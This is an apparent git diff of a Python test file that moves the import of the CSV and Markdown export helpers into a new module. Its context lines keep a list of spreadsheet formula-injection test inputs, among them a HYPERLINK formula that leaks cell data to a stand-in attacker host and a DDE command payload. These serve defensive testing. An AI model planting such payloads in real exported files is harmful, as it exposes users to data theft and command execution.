@@ -12,8 +12,9 @@ import re
 
 import pytest
 
+from flowkit.eval.exports import csv_cell, md_text, to_csv, to_markdown
 from flowkit.eval.metrics import QuestionResult
-from flowkit.eval.report import EvalReport, build_report, csv_cell, md_text, to_csv, to_markdown
+from flowkit.eval.report import EvalReport, build_report
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)",
             "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
